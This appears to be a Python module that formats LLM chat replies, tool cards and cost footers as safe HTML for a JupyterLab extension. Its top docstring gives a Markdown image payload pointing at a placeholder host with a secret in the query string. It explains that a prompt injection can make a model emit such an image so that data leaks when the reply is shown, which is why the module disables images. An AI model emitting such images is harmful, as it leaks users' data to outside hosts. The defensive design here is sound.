"""Formatting shared by every view, so no two views format the same thing twice.

Pure functions, no widgets. Model output is untrusted: Markdown is rendered with raw HTML
and images disabled (markdown-it also refuses `javascript:`-style links), and every other
string that reaches HTML goes through `html.escape`. Images stay off because an image loads
by itself: `![](https://host/x.png?q=SECRET)` in a reply (a prompt injection can ask for
one) would send data to that host the moment it is shown; it renders as `!` plus a link.

The Markdown is GitHub's flavour (tables, strikethrough, task lists, alerts, autolinks:
mdit-py-plugins' `gfm_plugin`, footnotes off), fenced code is highlighted with Pygments
into a few `cm-` token classes coloured by JupyterLab's own editor variables (`reply.css`,
so light and dark themes both read), and `$…$` / `$$…$$` math is kept verbatim for the
frontend's MathJax: reply text carries `mathjax_ignore` (so "$5 and $10" stays text), each
math span `mathjax_process` (and the MathJax 2 names of both, for nbconvert). Class names
carry the `cm-` prefix and other styles are inline, coloured by JupyterLab's CSS variables
with light fallbacks, so nothing leaks into the rest of the notebook.
"""

from __future__ import annotations

import bisect
import functools
import html
import json
import math
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from ..formatting import plural, usd
from ..protocol import ExchangeInfo
from ..turn import CallRecord, message_blocks

_MUTED = "var(--jp-content-font-color2,#666)"
_ERROR = "var(--jp-error-color1,#c00)"
_BORDER = "var(--jp-border-color1,#bbb)"
_CARD = f"border:1px solid {_BORDER};border-radius:4px;padding:4px 8px;margin:4px 0"
_ERROR_CARD = (
    f"border:1px solid {_ERROR};border-radius:4px;padding:4px 8px;margin:4px 0;color:{_ERROR}"
)
_PRE = "white-space:pre-wrap;margin:2px 0;font-size:90%"
_THINKING = (
    f"{_PRE};color:{_MUTED};border-left:3px solid var(--jp-border-color2,#ddd);"
    "padding-left:8px;max-height:16em;overflow-y:auto"
)
"""The thinking box: bounded, so it keeps its size when the answer starts and after."""
_SUMMARY_LIMIT = 4000
"""Characters of JSON a generic card shows (search results can be huge)."""
NO_MATH = "mathjax_ignore tex2jax_ignore"
"""MathJax 3 and 2 classes: typeset nothing inside (reply text, thinking, cards)."""
MATH = "cm-math mathjax_process tex2jax_process"
"""...except in these (the math spans of reply text)."""
TEXT_CLASS = f"cm-text {NO_MATH}"

FLAGS = {
    "max_tokens": "reply cut off at max_tokens — raise --max-tokens",
    "refusal": "the model refused (stop_reason: refusal)",
    "model_context_window_exceeded": "reply cut off: the context window is full",
}


def _configure(md: Any) -> Any:
    from mdit_py_plugins.dollarmath import dollarmath_plugin
    from mdit_py_plugins.gfm import gfm_plugin

    gfm_plugin(md)
    # Footnotes set global ids (`fn1`) and reach across blocks: off, they read as text.
    md.disable(["footnote_def", "footnote_ref", "footnote_tail"])
    # Pandoc's rule: no space inside the dollars, no digit after the closing one, so
    # "costs $5 and $10" and "$5-$10" stay text while "$0.1\,N$" is math.
    dollarmath_plugin(
        md,
        allow_labels=False,
        allow_space=False,
        allow_digits=False,
        allow_blank_lines=False,
        double_inline=True,
    )
    md.add_render_rule("math_inline", _math_rule("span", r"\(", r"\)"))
    md.add_render_rule("math_inline_double", _math_rule("span", r"\[", r"\]"))
    md.add_render_rule("math_block", _math_rule("div", r"\[", r"\]", "\n"))
    return md.disable("image")


def _math_rule(tag: str, opening: str, closing: str, end: str = "") -> Any:
    """A render rule: TeX kept verbatim (escaped) between MathJax's own delimiters."""

    def render(self: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
        tex = html.escape(tokens[idx].content.strip(), quote=False)
        return f'<{tag} class="{MATH}">{opening}{tex}{closing}</{tag}>{end}'

    return render


@functools.cache
def markdown_parser() -> Any:
    """The one shared parser: GFM, math, highlighted code; raw HTML and images off."""
    from markdown_it import MarkdownIt

    return _configure(MarkdownIt("commonmark", {"html": False, "highlight": highlight_code}))


@functools.cache
def block_parser() -> Any:
    """The same parser without the inline pass: top-level block structure at a fifth the cost."""
    from markdown_it import MarkdownIt

    return _configure(MarkdownIt("commonmark", {"html": False})).disable("inline")


def warm_up() -> None:
    """Build the parsers and load the most common lexer (~0.4 s of imports, once per
    process), so the first reply does not stall on them mid-stream."""
    markdown_parser()
    block_parser()
    _lexer("python")


def markdown_to_html(text: str) -> str:
    """GFM to HTML: raw HTML shown as text, no images, unsafe link schemes refused."""
    return markdown_parser().render(text)


def text_html(text: str) -> str:
    """A text block (model Markdown) as safe HTML."""
    return _text_div(markdown_to_html(text))


def _text_div(inner: str) -> str:
    return f'<div class="{TEXT_CLASS}">{inner}</div>'


# -- code highlighting ----------------------------------------------------------------------

_TOKEN_CLASSES: dict[str, str | None] = {
    "Keyword": "k",
    "Operator.Word": "k",
    "Name.Builtin": "b",
    "Name.Builtin.Pseudo": "v",
    "Name.Function": "f",
    "Name.Class": "f",
    "Name.Decorator": "m",
    "Comment.Preproc": "m",
    "Name.Tag": "t",
    "Name.Attribute": "a",
    "Literal.String": "s",
    "Literal.Number": "n",
    "Comment": "c",
    "Operator": None,
    "Generic.Heading": "h",
    "Generic.Subheading": "h",
    "Generic.Deleted": "d",
    "Generic.Inserted": "i",
    "Error": "e",
}
"""Pygments token types (and their subtypes) to the `cm-` classes `reply.css` colours.
Operators stay plain: Pygments counts every `.` and `:` as one, which would double the
markup of code for little (JupyterLab's editor leaves punctuation plain too)."""


@functools.cache
def _token_class(ttype: Any) -> str | None:
    while ttype is not None:
        name = str(ttype).removeprefix("Token.")
        if name in _TOKEN_CLASSES:
            return _TOKEN_CLASSES[name]
        ttype = ttype.parent
    return None


@functools.cache
def _lexer(lang: str) -> Any:
    from pygments.lexers import get_lexer_by_name
    from pygments.util import ClassNotFound

    try:
        return get_lexer_by_name(lang, stripnl=False, ensurenl=False)
    except ClassNotFound:
        return None


def highlight_code(code: str, lang: str, attrs: str = "") -> str:
    """A fenced code block as `<pre class="cm-code">`, highlighted when Pygments knows `lang`."""
    lexer = _lexer(lang.lower()) if re.fullmatch(r"[\w+#.-]{1,40}", lang or "") else None
    if lexer is None:
        body = html.escape(code, quote=False)
    else:
        spans, run, kind = [], [], None
        for ttype, value in lexer.get_tokens(code):
            cls = _token_class(ttype) if value.strip() else kind
            if cls != kind and run:
                spans.append(_span(kind, "".join(run)))
                run = []
            kind = cls
            run.append(value)
        if run:
            spans.append(_span(kind, "".join(run)))
        body = "".join(spans)
    label = f' class="language-{html.escape(lang)}"' if lang else ""
    return f'<pre class="cm-code"><code{label}>{body}</code></pre>'


def _span(cls: str | None, text: str) -> str:
    text = html.escape(text, quote=False)
    return f"<span class=cm-{cls}>{text}</span>" if cls else text  # one per token: no quotes


@functools.cache
def reply_css() -> str:
    """The stylesheet of what inline styles cannot do (code token colours), from reply.css:
    one rule a line, each for the last `cm-` class of its selector."""
    return Path(__file__).with_name("reply.css").read_text(encoding="utf-8")


_CLASS = re.compile(r"\bcm-[\w-]+")


def style_tag(fragment: str) -> str:
    """The rules of reply.css that `fragment` uses, as one `<style>` ("" when none): a
    saved turn carries only the colours its code needs."""
    used = set(_CLASS.findall(fragment))
    rules = [rule for rule in reply_css().splitlines() if _subject(rule) in used]
    return f"<style>{''.join(rules)}</style>" if rules else ""


def _subject(rule: str) -> str | None:
    """The last `cm-` class of a CSS rule's selector: the rule matters where it is used."""
    classes = _CLASS.findall(rule.split("{", 1)[0])
    return classes[-1] if classes else None


# -- Markdown as it streams -------------------------------------------------------------------

_NEWLINE = re.compile(r"\r\n?|\n")
"""Line breaks as markdown-it counts them (its `normalize` rule), so `Token.map` lines match."""


def _line_starts(text: str) -> list[int]:
    """Offset of every line's start; a text ending in a line break ends with an empty line."""
    return [0, *(m.end() for m in _NEWLINE.finditer(text))]


def _top_level(tokens: list[Any]) -> list[tuple[int, int]]:
    """(token index, first line) of every top-level block."""
    return [(i, t.map[0]) for i, t in enumerate(tokens) if t.level == 0 and t.map]


class MarkdownStream:
    """Model Markdown rendered as it grows, each top-level block rendered once.

    `update` finds the block structure of what follows the last finished block with the
    cheap block-level parse; a block counts as finished once a later block starts on a
    complete line (a partial line such as `#` or `` ``` `` may still turn out to continue
    it). Finished blocks are rendered once and kept as pieces (the live view sends each to
    the browser once); the unfinished rest is rendered only when asked for. Separately
    rendered top-level blocks render exactly as the whole text does unless link reference
    definitions (which reach across blocks) are involved, so `final` checks that against a
    block-level parse of the whole text and renders the whole when it must.
    """

    def __init__(self) -> None:
        self.done = 0
        """Source offset where the unfinished part starts (a line start)."""
        self._starts: list[int] = []
        self._pieces: list[str] = []
        """HTML of the finished pieces; piece i covers source[_starts[i]:next start or done]."""
        self._source = ""
        self._references = False

    def update(self, source: str) -> None:
        """Take `source` (the text so far, a continuation of what was last passed)."""
        self._source = source
        rest = source[self.done :]
        env: dict[str, Any] = {}
        tokens = block_parser().parse(rest, env)
        self._references = self._references or bool(env.get("references"))
        lines = _line_starts(rest)
        blocks = [line for _, line in _top_level(tokens)[1:] if line + 1 < len(lines)]
        if blocks:
            finished = rest[: lines[blocks[-1]]]
            self._starts.append(self.done)
            self._pieces.append(markdown_to_html(finished))
            self.done += len(finished)

    @property
    def rest_html(self) -> str:
        """HTML of the unfinished part as of the last update."""
        return markdown_to_html(self._source[self.done :])

    def pieces(self, first: int = 0) -> list[tuple[int, int, str]]:
        """(start, end, HTML) of the finished pieces from the `first`-th on."""
        ends = [*self._starts[1:], self.done] if self._starts else []
        return list(zip(self._starts, ends, self._pieces, strict=True))[first:]

    def html(self, start: int, end: int | None = None) -> str:
        """The text block's HTML from piece boundary `start` to `end` (None: to the end)."""
        first = bisect.bisect_left(self._starts, start)
        if end is None:
            return _text_div("".join(self._pieces[first:]) + self.rest_html)
        return _text_div("".join(self._pieces[first : bisect.bisect_left(self._starts, end)]))

    def final(self, source: str) -> str:
        """`text_html(source)` of the finished text, reusing the pieces when that is exact."""
        if self._source != source:
            self.update(source)
        env: dict[str, Any] = {}
        tokens = block_parser().parse(source, env)
        lines = _line_starts(source)
        blocks = {lines[line] for _, line in _top_level(tokens)}
        reusable = not (self._references or env.get("references")) and all(
            start in blocks for start in (*self._starts[1:], self.done) if start
        )
        return self.html(0) if reusable else text_html(source)


def reply_blocks(replies: list[dict[str, Any]]) -> Iterator[tuple[dict[str, Any], str | None]]:
    """Every block of `replies` in order, with the tool's name for a tool_result block."""
    names: dict[str, str] = {}
    for message in replies:
        for block in message_blocks(message):
            if block.get("type") in ("tool_use", "server_tool_use"):
                names[str(block.get("id"))] = str(block.get("name"))
            yield block, names.get(str(block.get("tool_use_id")))


def block_dict(block: Any) -> dict[str, Any]:
    """A content block (SDK model or dict) as a plain JSON-ready dict."""
    if isinstance(block, dict):
        return block
    dump = getattr(block, "model_dump", None)
    return dump(mode="json", exclude_none=True) if dump else {"type": str(block)}


def json_text(value: Any, limit: int | None = None) -> str:
    """Pretty JSON for a card, without encrypted payloads, cut at `limit` characters."""
    text = json.dumps(_strip_encrypted(value), indent=2, ensure_ascii=False, default=str)
    if limit is not None and len(text) > limit:
        text = f"{text[:limit]}\n… ({len(text) - limit} more characters)"
    return text


def _strip_encrypted(value: Any) -> Any:
    if isinstance(value, dict):
        return {
            k: ("…" if k.startswith("encrypted") else _strip_encrypted(v)) for k, v in value.items()
        }
    if isinstance(value, list):
        return [_strip_encrypted(v) for v in value]
    return value


def card_html(
    title: str, body: str, *, error: bool = False, kind: str = "block", slot: bool = False
) -> str:
    """A bordered card: escaped title and preformatted escaped body (`slot`: the live view
    appends streamed text to the body)."""
    style = _ERROR_CARD if error else _CARD
    pre_class = ' class="cm-slot"' if slot else ""
    return (
        f'<div class="cm-card cm-{html.escape(kind)} {NO_MATH}" style="{style}">'
        f"<b>{html.escape(title)}</b>"
        f'<pre{pre_class} style="{_PRE}">{html.escape(body)}</pre></div>'
    )


def thinking_html(text: str, note: str | None = None) -> str:
    """A thinking block, open, its text in a bounded box (the live view streams into it);
    `note` replaces the text when there is none (display: omitted)."""
    title = "Thinking (hidden)" if note else "Thinking"
    body = f"<i>{html.escape(note)}</i>" if note else html.escape(text)
    slot = "" if note else " cm-slot"
    return (
        f'<details class="cm-thinking" open style="margin:4px 0;color:{_MUTED}">'
        f"<summary>{title}</summary>"
        f'<div class="cm-thinking-text{slot} {NO_MATH}" style="{_THINKING}">{body}</div>'
        "</details>"
    )


def not_added(kept: bool = False) -> str:
    """The line under a failed reply (`kept`: the chat still holds the cell's earlier turn)."""
    which = ", which keeps this cell's earlier turn" if kept else ""
    return f"✗ Not added to the chat{which}: the error below says why."


def note_html(text: str, *, error: bool = False) -> str:
    """A line said about the exchange (re-run notes, errors), not by the model."""
    color = _ERROR if error else _MUTED
    return (
        f'<div class="cm-note {NO_MATH}" style="color:{color};margin:4px 0">'
        f"{html.escape(text)}</div>"
    )


def thinking_hidden_note(block: dict[str, Any]) -> str | None:
    """What to say instead of empty thinking (display: omitted), or None if it has text."""
    if block.get("thinking"):
        return None
    if block.get("signature"):
        return "thinking hidden (display: omitted) — use --thinking to show a summary"
    return "(no thinking text)"


def tool_input_html(name: str, input_value: Any) -> str:
    """A tool call card; `input_value` is the input (a string: JSON streamed so far)."""
    body = input_value if isinstance(input_value, str) else json_text(input_value)
    return card_html(f"tool call: {name}", body, kind="tool-use", slot=True)


def tool_result_text(content: Any) -> str:
    """Tool-result content (a string or content blocks) as plain text."""
    if isinstance(content, str):
        return content
    parts = []
    for item in content or []:
        if isinstance(item, dict) and item.get("type") == "text":
            parts.append(str(item.get("text", "")))
        elif isinstance(item, dict):
            parts.append(f"[{item.get('type', 'block')}]")
        else:
            parts.append(str(item))
    return "\n".join(parts)


def tool_result_html(
    name: str, content: Any, *, is_error: bool, seconds: float | None = None
) -> str:
    """A tool result card, red when the tool failed."""
    label = "tool error" if is_error else "tool result"
    timing = f" ({seconds:.2f} s)" if seconds is not None else ""
    return card_html(
        f"{label}: {name}{timing}", tool_result_text(content), error=is_error, kind="tool-result"
    )


def block_html(block: dict[str, Any], tool_name: str | None = None) -> str:
    """One finished content block as safe HTML; unknown types become a generic card."""
    kind = str(block.get("type", "unknown"))
    if kind == "text":
        return text_html(str(block.get("text", "")))
    if kind == "thinking":
        return thinking_html(str(block.get("thinking") or ""), thinking_hidden_note(block))
    if kind == "redacted_thinking":
        return note_html("(thinking redacted by the API)")
    if kind == "tool_use":
        return tool_input_html(str(block.get("name", "?")), block.get("input"))
    if kind == "tool_result":
        return tool_result_html(
            tool_name or str(block.get("tool_use_id", "?")),
            block.get("content"),
            is_error=bool(block.get("is_error")),
        )
    title = f"{kind}: {block['name']}" if isinstance(block.get("name"), str) else kind
    return card_html(title, json_text(block, _SUMMARY_LIMIT), kind="generic")


def block_text(block: dict[str, Any], tool_name: str | None = None) -> str:
    """One finished content block as plain text (terminal and text/plain)."""
    kind = str(block.get("type", "unknown"))
    if kind == "text":
        return str(block.get("text", ""))
    if kind == "thinking":
        return thinking_text(thinking_hidden_note(block) or block["thinking"])
    if kind == "redacted_thinking":
        return "[thinking redacted by the API]"
    if kind == "tool_use":
        tool_input = json.dumps(block.get("input"), ensure_ascii=False)
        return f"[tool_use {block.get('name', '?')}] {tool_input}"
    if kind == "tool_result":
        name = tool_name or str(block.get("tool_use_id", "?"))
        return tool_result_line(name, block.get("content"), bool(block.get("is_error")))
    name = f" {block['name']}" if isinstance(block.get("name"), str) else ""
    return f"[{kind}{name}] {json_text(block, _SUMMARY_LIMIT)}"


def thinking_text(text: str) -> str:
    """Thinking under a header, each line prefixed so it reads apart from the answer."""
    return "[thinking]\n" + "\n".join(f"│ {line}" for line in text.split("\n"))


def tool_result_line(name: str, content: Any, is_error: bool) -> str:
    label = "tool_error" if is_error else "tool_result"
    return f"[{label} {name}] {tool_result_text(content)}"


def begin_notes(info: ExchangeInfo) -> list[str]:
    """What a view says before the reply: nothing has happened yet (a failed exchange
    changes nothing), so the notes say what the commit will do."""
    notes = [info.notice] if info.notice else []
    if info.moved_from:
        notes.append(
            f"(this cell's earlier turn is in chat {info.moved_from!r}; it moves to "
            f"{info.chat!r} when this reply completes)"
        )
    if info.reset_turns > 0:
        notes.append(
            f"(--new: chat {info.chat!r} starts over; its {plural(info.reset_turns, 'turn')} "
            f"{'is' if info.reset_turns == 1 else 'are'} dropped when this reply completes)"
        )
    if info.dropped_turns > 0:
        notes.append(
            f"(re-run: replaces this cell's earlier turn; "
            f"{plural(info.dropped_turns, 'later turn')} of chat {info.chat!r} will be dropped)"
        )
    return notes


def final_notes(info: ExchangeInfo) -> list[str]:
    """The same notes in the final record, in the past tense."""
    notes = [info.notice] if info.notice else []
    if info.moved_from:
        notes.append(f"(moved from chat {info.moved_from!r}: its earlier turn there was removed)")
    if info.reset_turns > 0:
        notes.append(
            f"(--new: chat {info.chat!r} started over; dropped its "
            f"{plural(info.reset_turns, 'turn')})"
        )
    if info.dropped_turns > 0:
        notes.append(
            f"(re-run: replaced this cell's earlier turn; dropped "
            f"{plural(info.dropped_turns, 'later turn')} of chat {info.chat!r})"
        )
    return notes


def _usd(value: float) -> str:
    """Dollars with the precision the amount needs ($0.00004, never "$0.0000")."""
    return "cost n/a" if math.isnan(value) else usd(value)


def budget_left(info: ExchangeInfo, calls: list[CallRecord]) -> float | None:
    """The budget left after `calls`: what was left before, less what the API billed."""
    if info.budget_left_usd is None:
        return None
    from ..budget import billed_usd

    rows = [{"cost_usd": c.cost_usd, "offline": c.offline, "replayed": c.replayed} for c in calls]
    return max(info.budget_left_usd - billed_usd(rows), 0.0)


def footer_parts(
    calls: list[CallRecord], running_cost: float | None, budget: float | None = None
) -> list[str]:
    """The footer's fields, in order: totals over `calls` when there are several."""
    if not calls:
        return []

    def total(name: str) -> int:
        return sum(c.counter(name) for c in calls)

    models = list(dict.fromkeys(c.model for c in calls))
    parts = [plural(len(calls), "call")] if len(calls) > 1 else []
    parts += [
        ", ".join(models),
        f"in {total('input_tokens'):,}",
        f"out {total('output_tokens'):,}",
        f"cache write {total('cache_creation_input_tokens'):,}",
        f"cache read {total('cache_read_input_tokens'):,}{_savings(calls)}",
        _usd(sum(c.cost_usd for c in calls)) + _not_billed(calls),
    ]
    first = next((c.ttft_s for c in calls if c.ttft_s is not None), None)
    if first is not None:
        parts.append(f"first token {first:.2f} s")
    parts.append(f"total {sum(c.total_s for c in calls):.2f} s")
    parts.append(str(calls[-1].stop_reason or "no stop reason"))
    if running_cost is not None:
        parts.append(f"chat total {_usd(running_cost)}")
    if budget is not None:
        parts.append(f"budget left {_usd(budget)}")
    return parts


def _not_billed(calls: list[CallRecord]) -> str:
    """Say so when no call reached the API: a simulated or replayed cost is what the API
    would charge (or charged the teacher), not money this kernel spent."""
    if all(c.replayed for c in calls):
        return " as recorded, not billed"
    return " if sent to the API" if all(c.offline for c in calls) else ""


def _savings(calls: list[CallRecord]) -> str:
    """ " (saved $x)" for cache reads: what those tokens would have cost as plain input."""
    from ..pricing import cache_savings_usd

    if not any(c.counter("cache_read_input_tokens") for c in calls):
        return ""
    saved = sum(cache_savings_usd(c.model, c.usage) for c in calls)
    return "" if math.isnan(saved) else f" (saved {_usd(saved)})"


def stop_flags(calls: list[CallRecord]) -> list[str]:
    """Warnings a reader must not miss: truncation, refusal, failed calls."""
    failed = sum(1 for c in calls if c.error)
    flags = []
    if failed:
        what = "a call" if failed == 1 else plural(failed, "call")
        flags.append(f"{what} failed partway: the tokens billed are counted above")
    if calls and calls[-1].stop_reason in FLAGS:
        flags.append(FLAGS[str(calls[-1].stop_reason)])
    return flags


OFFLINE_BADGE = "offline simulator"
REPLAYED_BADGE = "replayed from a recording"


def badge(calls: list[CallRecord], offline: bool) -> str | None:
    """Where the reply came from, when it was not the API: a recording, or the simulator."""
    if calls and all(c.replayed for c in calls):
        return REPLAYED_BADGE
    return OFFLINE_BADGE if offline else None


def footer_text(
    calls: list[CallRecord],
    *,
    offline: bool,
    running_cost: float | None,
    budget: float | None = None,
) -> str:
    """One line (plus a line per flag) summarizing usage, cost and timing."""
    parts = footer_parts(calls, running_cost, budget)
    label = badge(calls, offline)
    if label:
        parts.insert(0, f"[{label}]")
    lines = [" · ".join(parts)] if parts else []
    lines += [f"⚠ {flag}" for flag in stop_flags(calls)]
    return "\n".join(lines)


def badge_html(label: str = OFFLINE_BADGE) -> str:
    return (
        '<span class="cm-badge" style="border:1px solid;border-radius:3px;padding:0 4px;'
        f'margin-right:6px">{html.escape(label)}</span>'
    )


def footer_html(
    calls: list[CallRecord],
    *,
    offline: bool,
    running_cost: float | None,
    budget: float | None = None,
) -> str:
    """The footer as a small grey line, flags in red below it."""
    # `$` as an entity and `mathjax_ignore`: JupyterLab would typeset "$0.01 … $0.02" as math.
    line = html.escape(" · ".join(footer_parts(calls, running_cost, budget))).replace("$", "&#36;")
    flags = "".join(
        f'<div class="cm-flag" style="color:{_ERROR};font-weight:bold">⚠ {html.escape(flag)}</div>'
        for flag in stop_flags(calls)
    )
    label = badge(calls, offline)
    badge_ = badge_html(label) if label else ""
    return (
        f'<div class="cm-footer {NO_MATH}" style="font-size:85%;color:{_MUTED};margin-top:4px">'
        f"{badge_}{line}{flags}</div>"
    )
